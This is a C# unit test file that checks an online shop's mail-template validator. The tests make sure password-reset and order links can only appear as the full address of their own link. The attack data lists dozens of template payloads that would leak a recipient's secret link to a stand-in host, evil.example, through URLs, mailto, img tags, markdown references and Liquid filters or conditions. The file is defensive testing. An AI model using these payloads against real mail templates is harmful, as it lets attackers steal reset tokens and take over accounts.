// Templates that would send the recipient's own link to somebody else: none can be saved, and none that was kept makes a mail.
using System.Text.RegularExpressions;
using Cartwright.Contracts;
using Cartwright.Kernel;
using Cartwright.Notifications;

namespace Cartwright.Unit.Notifications;

[Trait(TestDatabase.Engine, TestDatabase.Either)]
public sealed partial class TemplateLinkTests
{
    private const string Secret = "kT3-secret";
    private const string Link = "https://shop.example/reset-password?token=" + Secret;
    private const string Good = "[Set a new password]({{ account.link }})";
    private const string Key = "s4mple";

    /// <summary>What was written beside the right link, and the column at which its line is refused.</summary>
    public static TheoryData<string, int> Attacks =>
        new()
        {
            // Within another address.
            { "[x](https://evil.example/?u={{ account.link }})", 29 },
            { "[x](https://evil.example/?u={{account.link}}&v=1)", 29 },
            { "[x](https://evil.example/%3Fu={{ account.link }})", 31 },
            { "[x](<https://evil.example/?u={{ account.link }}>)", 30 },
            { "[x](mailto:a@evil.example?body={{ account.link }})", 32 },
            { "[x](tel:1{{ account.link }})", 10 },
            { "[x]({{ account.link }}@evil.example)", 5 },
            { "[x]({{ account.link }}.evil.example)", 5 },
            { "[x]({{ account.link }}#a)", 5 },
            { "[x]({{ account.link }}{{ account.link }})", 5 },
            { "[x](https://evil.example/?u={% if customer.name %}{{ account.link }}{% endif %})", 51 },
            { "[x](https://evil.example/?u= {{- account.link -}} )", 30 },
            { "[x]\n\n[x]: https://evil.example/?u={{ account.link }}", 0 },
            { "[y]: https://evil.example/?u={{ account.link }}", 30 },
            { "[y]: {{ account.link }}", 1 },
            { "<https://evil.example/?u={{ account.link }}>", 26 },
            { "<a{{ account.link }}@evil.example>", 3 },
            // As text, of which mail programs make links.
            { "{{ account.link }}", 1 },
            { "https://evil.example/?u={{ account.link }}", 25 },
            { "{{ account.link }}.evil.example", 1 },
            { "- https://evil.example/?u={{ account.link }}", 27 },
            { "> https://evil.example/?u={{ account.link }}", 27 },
            { "## https://evil.example/?u={{ account.link }}", 28 },
            { "**https://evil.example/?u={{ account.link }}**", 27 },
            { "https&#58;//evil.example/?u={{ account.link }}", 29 },
            { "https:\\//evil.example/?u={{ account.link }}", 26 },
            { "`{{ account.link }}`", 2 },
            { "```\n{{ account.link }}\n```", 0 },
            { "<img src=\"https://evil.example/{{ account.link }}\">", 32 },
            // As the words of a link that leads elsewhere, or a part of them.
            { "[{{ account.link }}](https://evil.example)", 2 },
            { "[x {{ account.link }}]({{ account.link }})", 4 },
            { "[**{{ account.link }}**]({{ account.link }})", 4 },
            { "[x](https://evil.example \"{{ account.link }}\")", 27 },
            { "[x]({{ account.link }} \"{{ account.link }}\")", 25 },
            // Beside other characters in the plain text.
            { "https://evil.example/?u=[{{ account.link }}]({{ account.link }})", 1 },
            { "https://evil.example/?u=**[{{ account.link }}]({{ account.link }})**", 1 },
            { "(https://evil.example/?u=([{{ account.link }}]({{ account.link }})))", 1 },
            { "https://evil.example/?u=\u00A0[{{ account.link }}]({{ account.link }})", 1 },
            { "{{ customer.name }}[{{ account.link }}]({{ account.link }})", 1 },
            { "[x](https://evil.example/?u=)[{{ account.link }}]({{ account.link }})", 1 },
            { "[{{ account.link }}]({{ account.link }})@evil.example", 1 },
            { "[{{ account.link }}]({{ account.link }}).evil.example", 1 },
            // Taken apart, or told bit by bit.
            { "x {{ account.link | upcase }}", 3 },
            { "x {{ account.link | truncate: 60 }}", 3 },
            { "x {{ account.link | last }}", 3 },
            { "x {{ account.link | size }}", 3 },
            { "[x]({{ account.link | strip }})", 5 },
            { "[x]({{ account.link | default: 'https://evil.example' }})", 5 },
            { "[x]({{ 'https://evil.example' | default: account.link }})", 5 },
            { "{% if account.link contains 'a' %}[x](https://evil.example/a){% endif %}", 1 },
            { "{% if customer.name and account.link == 'a' %}x{% endif %}", 1 },
            { "x{% unless account.link %}x{% endunless %}", 2 },
            { "{% case account.link %}{% when 'a' %}x{% endcase %}", 1 },
            { "{% case customer.name %}{% when account.link %}x{% endcase %}", 25 },
        };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void A_link_stands_as_the_whole_address_of_a_link_and_nowhere_else(string attack, int column)
    {
        foreach (var template in AccountLetter.Templates)
        {
            // What else such a mail may not leave out.
            var must = template switch
            {
                AccountLetter.PayoutAccount => "\n{{ account.payouts }}\n",
                AccountLetter.AskedSeller or AccountLetter.RefusedSeller => "\n{{ account.note }}\n",
                _ => string.Empty,
            };
            var own = new TemplateText("Hi", $"Hi\n\n{attack}\n\n{Good}\n{must}");
            var flaws = TemplateCheck.Flaws(template, own);
            Assert.NotEmpty(flaws);
            Assert.All(flaws, flaw => Assert.Contains("account.link", flaw.Detail, StringComparison.Ordinal));
            Assert.All(flaws, flaw => Assert.True(flaw is { Part: "body", Line: > 0, Column: > 0 }, flaw.ToString()));
            if (column > 1)
            {
                Assert.Contains(flaws, flaw => (flaw.Line, flaw.Column) == (3, column));
            }
        }

        // One that was kept before there was this rule sends nothing either: the program's words go, and staff are told.
        foreach (var link in new[] { Link, null })
        {
            var body = $"Hi\n\n{attack}\n\n{Good}\n";
            var letter = AccountLetter.Write(Asked(), link, new(MailLanguage.Of("en"), MailFace.Plain, new("Hi", body)));
            OnlyWhole(letter);

            // What a filter or a condition gets is a mark, which tells nothing and may be harmless.
            var isMark = attack.Contains('|', StringComparison.Ordinal) || attack.Contains("{%", StringComparison.Ordinal);
            Assert.True(isMark || letter.Fault is not null);
        }
    }

    [Theory]
    [InlineData("password_reset", "x {{ account.link }}")]
    [InlineData("password_reset", "{% if customer.name %}{{ account.link }}{% endif %}")]
    [InlineData("cart_reminder", "{{ cart.link }}")]
    [InlineData("confirmed", "{{ order.number }} {% if order.reason %}{{ order_link }}{% endif %}")]
    public void No_subject_has_a_link(string template, string subject)
    {
        var flaw = Assert.Single(TemplateCheck.Flaws(template, TemplateText.Default(template, "en") with { Subject = subject }));
        Assert.Equal(("subject", 1), (flaw.Part, flaw.Line));
        Assert.Contains("cannot stand in a subject", flaw.Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://evil.example/?u={{ order_link }}")]
    [InlineData("[x](https://evil.example/?u={{ order_link }})")]
    [InlineData("<https://evil.example/?u={{ order_link }}>")]
    [InlineData("[r]: https://evil.example/?u={{ order_link }}")]
    [InlineData("- https://evil.example/?u=\n  {{ order_link }}")]
    [InlineData("> https://evil.example/?u={{ order_link }}")]
    [InlineData("```\nhttps://evil.example/?u={{ order_link }}\n```")]
    [InlineData("https://evil.example/?u=&#xE000;order_link&#xE001;")]
    [InlineData("https://evil.example/?u=&#xE002;account.link&#xE003;")]
    public void The_link_of_an_order_leads_to_the_order_alone(string attack)
    {
        var own = new TemplateText("{{ order.number }}", $"{attack}\n\n{{{{ order_table }}}}\n\n{{{{ order_link }}}}\n");
        var letter = OrderLetter.Write(
            Mails.Ask(Mails.Order(name: "\uE000order_link\uE001", product: "https://evil.example/?u=\uE002account.link\uE003")),
            "https://shop.example/orders/1?key=" + Key,
            new(MailLanguage.Of("en"), MailFace.Plain, own)
        );
        foreach (Match found in Regex.Matches(letter.Text + "\n" + letter.Html, $@"\S*{Key}\S*"))
        {
            Assert.DoesNotContain("evil", found.Value, StringComparison.Ordinal);
            Assert.Contains("https://shop.example/orders/1", found.Value, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("[Words]({{ account.link }})")]
    [InlineData("[Words]({{account.link}})")]
    [InlineData("[Words](<{{ account.link }}>)")]
    [InlineData("Press [here]({{ account.link }}), or copy [{{ account.link }}]({{ account.link }}).")]
    [InlineData("[{{ account.link }}]({{ account.link }})")]
    [InlineData("- [Words]({{ account.link }})\n- ([{{ account.link }}]({{ account.link }}))")]
    [InlineData("> [**Words**]({{ account.link }})!")]
    [InlineData("[a][r] and [b][r]\n\n[r]: {{ account.link }}")]
    [InlineData("# [Words]({{ account.link }})")]
    public void A_link_that_leads_to_itself_is_in_both_parts_and_hidden_in_the_mailbox(string body)
    {
        var own = new TemplateText("Hi", "Hello\n\n" + body + "\n");
        Assert.Empty(TemplateCheck.Flaws("password_reset", own));
        foreach (var language in Languages.Offered)
        {
            var pen = new MailPen(MailLanguage.Of(language), MailFace.Plain, own);
            var sent = AccountLetter.Write(Asked(), Link, pen);
            Assert.Null(sent.Fault);
            Assert.Contains(Link, sent.Text, StringComparison.Ordinal);
            Assert.Contains($"href=\"{Link}\"", sent.Html, StringComparison.Ordinal);
            OnlyWhole(sent);
            var shown = AccountLetter.Write(Asked(), null, pen);
            Assert.Null(shown.Fault);
            var hidden = pen.Language.Say("link_hidden").Trim('(', ')');
            Assert.Equal(
                sent.Text.Replace(Link, hidden, StringComparison.Ordinal).Replace($"({hidden})", hidden, StringComparison.Ordinal),
                shown.Text.Replace($"({hidden})", hidden, StringComparison.Ordinal)
            );
            Assert.Contains(hidden, System.Net.WebUtility.HtmlDecode(shown.Html), StringComparison.Ordinal);
            Assert.DoesNotContain("<a ", shown.Html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task The_mailbox_shows_the_mail_that_was_sent_and_a_fault_is_told()
    {
        await using var box = await Mailbox.Open(Mails.Settings(("Mail:Smtp", "smtp://127.0.0.1:2525")));
        await Add(1, "# Our own words\n\n" + Good);
        await Hear(Asked(), "e1");
        var mail = await box.Only();
        Assert.Equal((1L, "Ours"), (mail.Row.TemplateVersion, mail.Row.Subject));
        var (shown, sent) = (box.Own.Shown(mail), box.Own.Sent(mail));
        Assert.Equal((null, null), (shown.Fault, sent.Fault));
        Assert.StartsWith("Our own words\n\nSet a new password: (The link stands", shown.Text, StringComparison.Ordinal);
        Assert.StartsWith($"Our own words\n\nSet a new password: {Link}\n", sent.Text, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, shown.Text + shown.Html, StringComparison.Ordinal);

        // A condition that no sample meets.
        await Add(2, "{% if customer.name == 'Eve' %}[x](https://evil.example/?u={{ account.link }}){% endif %}\n\n" + Good);
        await Hear(Asked() with { RequestId = "r2", Name = "Eve" }, "e2");
        var late = (await box.List()).Single(row => row.MailId != mail.Row.MailId);
        Assert.Null(late.TemplateVersion);
        var letter = box.Own.Sent((await box.Test.Database.Read(sql => MailStore.Find(sql, late.MailId)))!);
        Assert.DoesNotContain("evil", letter.Text + letter.Html, StringComparison.Ordinal);
        OnlyWhole(letter);
        var kept = (await box.Test.Database.Read(sql => TemplateStore.Current(sql, "password_reset", "en")))!;
        Assert.Contains("{{ account.link }} is for its recipient alone", kept.Fault, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, kept.Fault, StringComparison.Ordinal);

        async Task Add(long version, string body) =>
            await box.Test.Database.Write(async tx =>
            {
                var added = await TemplateStore.Add(tx, new("password_reset", "en", version, new("Ours", body), "u", 1));
                box.Templates.Changed(tx);
                return added;
            });

        async Task Hear(AccountNotification asked, string id)
        {
            asked = asked with { SealedLink = Mailbox.Sealed.Seal(asked.Purpose, Link) };
            await box.Inbox.Accept([Mails.About(Topics.AccountNotification, "u9", asked, id)], default);
        }
    }

    private static AccountNotification Asked() =>
        new("u9", "r1", AccountLetter.Reset, "casey@example.com", "Casey", string.Empty, 1_768_473_000_000);

    // Wherever the secret stands it is the end of the whole link, with nothing beside it that a mail program could take along.
    private static void OnlyWhole(Letter letter)
    {
        Assert.DoesNotContain(Secret, letter.Subject, StringComparison.Ordinal);
        foreach (Match found in Around().Matches(letter.Text))
        {
            Assert.Matches(Plain(), found.Value);
        }

        foreach (Match found in Around().Matches(letter.Html))
        {
            Assert.Matches(Marked(), found.Value);
        }
    }

    [GeneratedRegex(@"\S*kT3-secret\S*", RegexOptions.IgnoreCase)]
    private static partial Regex Around();

    [GeneratedRegex(@"^\(?https://shop\.example/reset-password\?token=kT3-secret[.,:!?)]*$")]
    private static partial Regex Plain();

    [GeneratedRegex(
        @"^href=""https://shop\.example/reset-password\?token=kT3-secret""$|>https://shop\.example/reset-password\?token=kT3-secret</a>"
    )]
    private static partial Regex Marked();
}
